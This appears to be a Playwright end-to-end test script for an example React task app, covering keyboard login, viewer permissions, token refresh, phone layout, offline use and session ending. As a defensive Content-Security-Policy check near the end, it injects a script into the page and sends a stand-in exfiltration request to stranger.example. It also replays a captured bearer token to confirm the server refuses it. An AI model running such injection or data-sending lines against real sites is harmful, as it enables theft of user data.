// Uses the page of examples/react in Chromium as people do, and prints what came
// of each step. Its one argument is JSON.
import { chromium } from "playwright-core";

const task = JSON.parse(process.argv[2]);
const browser = await chromium.launch({
  executablePath: task.chromium,
  args: [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
  ],
});
const steps = { seconds: {} };
const complaints = []; // of the Content-Security-Policy and of React
const token = /eyJ[\w-]{8,}|js[rd]_[\w-]{8,}/;
const said = [];
let refreshes = 0;
const began = Date.now();
const lap = (name) => { steps.seconds[name] = Math.round((Date.now() - began) / 100) / 10; };

const open = async (options) => {
  const context = await browser.newContext({ viewport: { width: 800, height: 640 }, ...options });
  context.setDefaultTimeout(10_000);
  await context.addInitScript(() => addEventListener("securitypolicyviolation", (e) => console.error(`violates ${e.violatedDirective}: ${e.blockedURI}`)));
  context.on("console", (m) => {
    said.push(m.text());
    if (/violates|React|Warning/.test(m.text())) complaints.push(m.text());
  });
  context.on("weberror", (e) => complaints.push("unhandled: " + e.error().stack));
  context.on("request", (r) => {
    said.push(r.url());
    if (r.url() === task.issuer + "/v1/refresh" && r.method() === "POST") refreshes++;
  });
  const page = await context.newPage();
  await page.goto(task.page);
  return page;
};
const shot = async (page, name) => { if (task.screenshots) await page.screenshot({ path: `${task.screenshots}/${name}.png`, fullPage: true }); };
const focused = (page) => page.evaluate(() => document.activeElement.getAttribute("aria-label") ?? (document.activeElement.id || document.activeElement.textContent));
const outlined = (page) => page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle !== "none");
const tabTo = async (page, name) => { // by Tab alone
  for (let i = 0; i < 12; i++) {
    if ((await focused(page)).startsWith(name)) return outlined(page);
    await page.keyboard.press("Tab");
  }
  throw new Error(`${name} is not reached by Tab`);
};
const home = (page) => page.getByRole("heading", { name: "Signed in on these devices" }).waitFor();
const tasks = async (page) => page.getByRole("region", { name: "Your tasks" }).getByRole("listitem").locator("span").allTextContents();
const devices = (page) => page.getByRole("region", { name: "Signed in on these devices" }).getByRole("listitem");
const logIn = async (page, { username, password }) => { // by the keyboard alone
  await page.getByLabel("User name").waitFor();
  await page.waitForFunction(() => document.activeElement.id === "username");
  await page.keyboard.type(username);
  await page.keyboard.press("Tab");
  await page.keyboard.type(password);
  await page.keyboard.press("Enter");
};
const add = async (page, title) => {
  await page.getByLabel("New task").fill(title);
  await page.keyboard.press("Enter");
  await page.getByText(title, { exact: true }).waitFor();
};
const fits = (page) => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
// Another page has ended the session: this one learns it by adding, or has by a
// renewal of its own.
const ended = (page) => {
  const told = page.getByText("Your session has ended.");
  return Promise.any([told.waitFor(), (async () => {
    await page.getByLabel("New task").fill("too late");
    await page.getByRole("button", { name: "Add" }).tap();
    await told.waitFor();
  })()]);
};
const alert = async (page) => {
  const filled = page.getByRole("alert").filter({ hasText: /./ });
  await filled.first().waitFor();
  return filled.first().textContent();
};

try {
  const ada = await open({ colorScheme: "light" });
  await logIn(ada, { username: task.ada.username, password: "not the password" });
  steps.wrong = await alert(ada);
  await shot(ada, "login");
  await ada.keyboard.type(task.ada.password); // in place of the wrong one
  await ada.keyboard.press("Enter");
  await home(ada);
  await ada.getByText("Nothing to do.").waitFor();
  await ada.getByText("ada, editor").waitFor();
  await shot(ada, "empty");
  lap("log in");

  const seen = [await tabTo(ada, "title")];
  for (const title of ["Water the plants", "Call the plumber"]) {
    await ada.keyboard.type(title);
    await ada.keyboard.press("Enter");
    await ada.getByText(title, { exact: true }).waitFor();
  }
  seen.push(await tabTo(ada, "Done: Water"));
  await ada.keyboard.press("Enter");
  await ada.getByText("Water the plants", { exact: true }).waitFor({ state: "detached" });
  await ada.waitForFunction(() => document.activeElement.id === "title");
  steps.keyboard = { tasks: await tasks(ada), focusSeen: seen };
  lap("tasks");

  // Who may only look is offered nothing else, and refused it all the same.
  const vic = await open();
  const bearer = new Promise((done) => vic.on("request", (r) => { if (new URL(r.url()).pathname === "/tasks") done(r.headers().authorization); }));
  await logIn(vic, task.vic);
  await home(vic);
  await vic.getByText("Nothing to do.").waitFor();
  const refused = await fetch(task.page + "/tasks", {
    method: "POST", headers: { Authorization: await bearer, "Content-Type": "application/json" }, body: '{"title":"not allowed"}',
  });
  steps.viewer = { fields: await vic.getByRole("textbox").count(), done: await vic.getByRole("button", { name: /Done|Add/ }).count(), status: refused.status };
  await shot(vic, "viewer");
  await vic.context().close();
  lap("viewer");

  // The access token's life ends; the page's people do not notice.
  refreshes = 0;
  await new Promise((done) => setTimeout(done, task.life * 1000 + 300));
  await add(ada, "Survive an expiry");
  steps.expiry = { tasks: await tasks(ada), renewed: refreshes > 0 };
  lap("expiry");

  const phone = await open({
    viewport: { width: 360, height: 740 }, deviceScaleFactor: 2, hasTouch: true, isMobile: true, colorScheme: "dark", reducedMotion: "reduce",
    userAgent: "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36",
  });
  await phone.getByLabel("User name").waitFor();
  steps.fits = [await fits(phone)];
  await shot(phone, "phone-login-dark");
  await logIn(phone, task.ada);
  await home(phone);
  await add(phone, "Averyveryverylongwordthatdoesnotfitontoanyphonewhateverthesizeofitsletters and some more");
  steps.fits.push(await fits(phone));
  await phone.context().setOffline(true);
  await phone.getByText("You are offline. What").waitFor();
  await phone.getByLabel("New task").fill("Written offline");
  await phone.getByRole("button", { name: "Add" }).tap();
  steps.offline = { says: await alert(phone), kept: await phone.getByLabel("New task").inputValue() };
  steps.fits.push(await fits(phone));
  await shot(phone, "phone-offline-dark");
  await phone.context().setOffline(false);
  await phone.getByRole("button", { name: "Add" }).tap();
  await phone.getByText("Written offline", { exact: true }).waitFor();
  await shot(phone, "phone-dark");
  lap("phone");

  // The other device's session, seen after a reload and ended by the keyboard.
  await ada.reload();
  await home(ada);
  await devices(ada).nth(1).waitFor();
  steps.devices = { names: (await devices(ada).locator("span").allTextContents()).map((s) => s.replace(/last used .*/, "").trim()).sort() };
  await shot(ada, "home");
  await ada.emulateMedia({ colorScheme: "dark" });
  await shot(ada, "home-dark");
  seen.push(await tabTo(ada, "End Chrome on Android"));
  await ada.keyboard.press("Enter");
  await devices(ada).nth(1).waitFor({ state: "detached" });
  await ended(phone);
  steps.devices.left = await devices(ada).count();
  await shot(phone, "phone-ended-dark");
  lap("devices");

  // Everywhere, and then here.
  await logIn(phone, task.ada);
  await home(phone);
  await tabTo(ada, "Log out everywhere");
  await ada.keyboard.press("Enter");
  await ada.getByText("You have logged out.").waitFor();
  await ended(phone);
  await logIn(ada, task.ada);
  await home(ada);
  await tabTo(ada, "Log out");
  await ada.keyboard.press("Enter");
  await ada.getByText("You have logged out.").waitFor();
  await ada.reload();
  await ada.getByLabel("User name").waitFor();
  steps.loggedOut = await ada.getByRole("heading").allTextContents();
  steps.kept = await ada.evaluate(() => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]));
  lap("log out");

  steps.complaints = [...complaints];
  steps.tokensSaid = said.filter((text) => token.test(text));
  // What the policy is for: a script that somebody got into the page.
  await ada.evaluate(() => {
    const policy = document.createElement("script");
    try { policy.textContent = "document.title = 'owned'"; } catch { /* refused already */ }
    document.body.append(policy);
    const image = new Image();
    image.src = "https://stranger.example/?secret";
  });
  await ada.waitForTimeout(100);
  steps.injected = { title: await ada.title(), complaints: complaints.length - steps.complaints.length };
} catch (error) {
  console.error(JSON.stringify({ steps, complaints, said }, null, 1));
  for (const [i, context] of browser.contexts().entries()) await shot(context.pages()[0], "failed-" + i).catch(() => {});
  throw error;
} finally {
  await browser.close();
}
console.log(JSON.stringify(steps));
